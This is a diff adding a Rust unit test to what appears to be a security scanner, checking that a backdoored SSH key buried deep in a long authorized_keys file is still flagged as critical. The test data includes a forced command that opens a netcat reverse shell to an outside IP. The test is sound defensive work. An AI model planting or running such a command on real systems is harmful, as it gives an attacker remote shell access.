@@ -393,6 +393,31 @@ mod tests {
     }
 
     #[test]
+    fn a_backdoor_key_deep_in_a_long_file_is_still_reported() {
+        let mut keys = String::new();
+        for i in 0..150 {
+            keys.push_str(&format!("command=\"/bin/true\" ssh-ed25519 {KEY} k{i}\n"));
+        }
+        keys.push_str(&format!(
+            "command=\"nc 203.0.113.9 4444 -e /bin/sh\" ssh-ed25519 {KEY} last\n"
+        ));
+        let dir = root_with(&[
+            ("/etc/passwd", DEBIAN_PASSWD),
+            ("/root/.ssh/authorized_keys", &keys),
+        ]);
+        set_old(dir.path(), "/root/.ssh/authorized_keys");
+        let out = run_default(&AuthorizedKeys, dir.path());
+        // inventory + MAX_PER_FILE individual findings + one folded finding
+        assert_eq!(out.findings.len(), MAX_PER_FILE + 2);
+        let folded = out.findings.last().expect("folded");
+        assert_eq!(folded.severity, Severity::Critical);
+        assert_eq!(
+            folded.evidence["lines"].as_array().map(|a| a.len()),
+            Some(51)
+        );
+    }
+
+    #[test]
     fn recent_key_is_reported() {
         let dir = root_with(&[
             ("/etc/passwd", DEBIAN_PASSWD),
